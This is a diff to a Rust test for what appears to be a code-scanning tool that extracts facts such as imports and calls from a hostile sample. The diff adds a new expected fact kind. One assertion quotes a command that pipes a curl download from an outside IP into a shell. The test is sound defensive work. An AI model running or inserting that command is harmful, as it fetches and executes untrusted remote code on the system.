@@ -86,7 +86,10 @@ fn facts_are_there_when_asked_for() {
     let report = facts();
     let facts = report["artifacts"][1]["facts"].as_array().unwrap();
     let kinds: Vec<_> = facts.iter().map(|fact| fact["kind"].as_str().unwrap()).collect();
-    assert_eq!(kinds, ["import", "import", "call", "call", "assign", "reference", "tensor"]);
+    assert_eq!(
+        kinds,
+        ["import", "import", "call", "call", "assign", "reference", "tensor", "code"]
+    );
     assert_eq!((&facts[0]["module"], &facts[0]["name"]), (&"os".into(), &"system".into()));
     assert!(facts[0].get("spelled").is_none());
     assert_eq!(facts[1]["spelled"]["name"], sample::HOSTILE);
@@ -97,6 +100,7 @@ fn facts_are_there_when_asked_for() {
     assert_eq!(facts[2]["args"][0], "'curl -s http://203.0.113.7/x | sh'");
     assert_eq!((&facts[3]["manner"], &facts[3]["via"]), (&"through".into(), &"map".into()));
     assert_eq!(facts[4]["text"], "os.environ = True");
+    assert_eq!((&facts[7]["when"], &facts[7]["name"]), (&"used".into(), &sample::HOSTILE.into()));
 }
 
 #[test]
